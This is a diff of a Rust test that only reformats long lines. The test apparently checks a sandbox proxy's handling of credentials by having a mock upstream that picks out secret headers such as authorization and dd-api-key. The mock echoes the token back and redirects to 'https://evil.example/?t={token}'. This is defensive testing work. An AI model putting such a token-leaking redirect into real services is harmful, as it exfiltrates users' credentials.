@@ -49,7 +49,8 @@ impl Backend {
         // A second test of this process finds it installed.
         let _ = rustls::crypto::ring::default_provider().install_default();
         // As sent, as answered: nothing followed, nothing unpacked.
-        let client = reqwest::Client::builder().no_proxy().gzip(false).redirect(reqwest::redirect::Policy::none());
+        let client =
+            reqwest::Client::builder().no_proxy().gzip(false).redirect(reqwest::redirect::Policy::none());
         let client = client.build().unwrap();
         let mut sandbox = Command::new(env!("CARGO_BIN_EXE_grantdeck"))
             .args(["sandbox", "--port", "0", "--rate-limit", "0"])
@@ -63,14 +64,16 @@ impl Backend {
         let mut exported = || loop {
             let mut line = String::new();
             assert!(lines.read_line(&mut line).unwrap() > 0, "the sandbox ended");
-            if let Some((_, value)) = line.trim().strip_prefix("export ").and_then(|rest| rest.split_once('='))
+            if let Some((_, value)) =
+                line.trim().strip_prefix("export ").and_then(|rest| rest.split_once('='))
             {
                 return value.trim_matches('\'').to_owned();
             }
         };
         let (upstream, key) = (exported(), exported());
         std::thread::spawn(move || lines.read_to_end(&mut Vec::new()));
-        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
+        let runtime =
+            tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
         let heard = Arc::default();
         let relay = Relay { upstream, client, heard: Arc::clone(&heard) };
         let url = runtime.block_on(async {
@@ -152,7 +155,9 @@ fn echo(wish: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
     let text = |value: &axum::http::HeaderValue| String::from_utf8_lossy(value.as_bytes()).into_owned();
     let came: Vec<(String, String)> =
         headers.iter().map(|(name, value)| (name.to_string(), text(value))).collect();
-    let secret = came.iter().find(|(name, _)| ["authorization", "x-warehouse-token", "dd-api-key"].contains(&name.as_str()));
+    let secret = came
+        .iter()
+        .find(|(name, _)| ["authorization", "x-warehouse-token", "dd-api-key"].contains(&name.as_str()));
     let secret = secret.map_or("", |(_, value)| value.as_str());
     let token = secret.rsplit(' ').next().unwrap_or_default();
     let body = json!({
@@ -185,9 +190,15 @@ fn echo(wish: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
     let mut set = |name: &'static str, value: String| {
         answer.headers_mut().insert(name, value.parse().unwrap());
     };
-    set("content-type", if wish == "wide" { "text/plain; charset=utf-16le" } else { "application/json" }.to_owned());
+    set(
+        "content-type",
+        if wish == "wide" { "text/plain; charset=utf-16le" } else { "application/json" }.to_owned(),
+    );
     set("location", format!("https://evil.example/?t={token}"));
-    set("www-authenticate", format!("Bearer error=\"invalid_token\", error_description=\"{token} has ended\""));
+    set(
+        "www-authenticate",
+        format!("Bearer error=\"invalid_token\", error_description=\"{token} has ended\""),
+    );
     set("x-echo", secret.to_owned());
     answer
 }
